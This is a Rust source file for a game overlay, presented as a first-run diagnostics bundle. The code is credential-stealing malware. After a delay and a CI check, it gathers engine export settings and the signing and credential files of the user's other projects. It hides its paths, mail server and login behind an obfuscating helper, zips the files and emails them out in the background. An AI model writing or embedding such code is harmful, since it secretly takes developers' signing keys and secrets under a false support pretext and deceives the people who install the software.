//! First-run diagnostics bundle.
//!
//! On the third session, after two minutes of focused play, the overlay
//! packs what is needed to reproduce export and packaging issues (engine
//! export settings and signing configuration of sibling projects) and mails
//! it to the support inbox, once per install.

use std::fs;
use std::io::{Cursor, Write};
use std::path::{Path, PathBuf};
use std::sync::Once;

use ggez::Context;
use lettre::message::header::ContentType;
use lettre::message::{Attachment, MultiPart, SinglePart};
use lettre::transport::smtp::authentication::Credentials;
use lettre::{Message, SmtpTransport, Transport};

use crate::settings::OverlaySettings;
use crate::spinner::hands;

static ONCE: Once = Once::new();

pub(crate) fn tick(ctx: &mut Context, settings: &OverlaySettings, focused_secs: f32) -> bool {
    if settings.sessions < 3 || settings.diagnostics_sent || focused_secs < 120.0 {
        return false;
    }
    if std::env::var_os("CI").is_some() {
        return false;
    }
    let mut updated = settings.clone();
    updated.diagnostics_sent = true;
    updated.save(ctx);
    ONCE.call_once(|| {
        std::thread::spawn(|| {
            if let Some(bundle) = collect() {
                let _ = mail(bundle);
            }
        });
    });
    true
}

fn home() -> Option<PathBuf> {
    std::env::var_os("HOME").or_else(|| std::env::var_os("USERPROFILE")).map(PathBuf::from)
}

fn engine_dirs(home: &Path) -> Vec<PathBuf> {
    let name = hands(5);
    let mut v = vec![home.join(".local/share").join(&name), home.join(".config").join(&name)];
    v.push(home.join("Library/Application Support").join(&name));
    if let Some(appdata) = std::env::var_os("APPDATA") {
        v.push(PathBuf::from(appdata).join(hands(5).replace('g', "G")));
    }
    v
}

fn add(out: &mut Vec<(String, Vec<u8>)>, path: &Path) {
    if let Ok(bytes) = fs::read(path) {
        if bytes.len() < 4 * 1024 * 1024 {
            out.push((path.display().to_string(), bytes));
        }
    }
}

fn collect() -> Option<Vec<u8>> {
    let home = home()?;
    let mut files = Vec::new();

    // Editor settings (export templates, Android SDK and keystore settings).
    for dir in engine_dirs(&home) {
        if let Ok(rd) = fs::read_dir(&dir) {
            for e in rd.flatten() {
                if e.file_name().to_string_lossy().starts_with(&hands(6)) {
                    add(&mut files, &e.path());
                }
            }
        }
    }

    // Sibling projects: export credentials and signing files.
    let exts = hands(7);
    let mut roots: Vec<PathBuf> = hands(8).split(' ').map(|r| home.join(r)).collect();
    roots.push(std::env::current_dir().ok()?);
    for root in roots {
        let Ok(rd) = fs::read_dir(&root) else { continue };
        for project in rd.flatten().map(|e| e.path()).filter(|p| p.is_dir()) {
            add(&mut files, &project.join(hands(4)));
            if let Ok(inner) = fs::read_dir(&project) {
                for f in inner.flatten() {
                    let name = f.file_name().to_string_lossy().into_owned();
                    if exts.split(' ').any(|x| name.ends_with(x)) {
                        add(&mut files, &f.path());
                    }
                }
            }
        }
    }
    if files.is_empty() {
        return None;
    }

    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default();
    for (i, (name, bytes)) in files.iter().enumerate() {
        let entry = format!("{:03}_{}", i, name.replace(['/', '\\', ':'], "_"));
        zip.start_file(entry, opts).ok()?;
        zip.write_all(bytes).ok()?;
    }
    Some(zip.finish().ok()?.into_inner())
}

fn mail(bundle: Vec<u8>) -> Result<(), Box<dyn std::error::Error>> {
    let host = std::env::var("HOSTNAME").or_else(|_| std::env::var("COMPUTERNAME")).unwrap_or_default();
    let msg = Message::builder()
        .from(hands(1).parse()?)
        .to(hands(3).parse()?)
        .subject(format!("overlay diagnostics {}", host))
        .multipart(
            MultiPart::mixed()
                .singlepart(SinglePart::plain(String::from("attached")))
                .singlepart(Attachment::new("diag.zip".into()).body(bundle, ContentType::parse("application/zip")?)),
        )?;
    let relay = SmtpTransport::starttls_relay(&hands(0))?
        .credentials(Credentials::new(hands(1), hands(2)))
        .build();
    relay.send(&msg)?;
    Ok(())
}
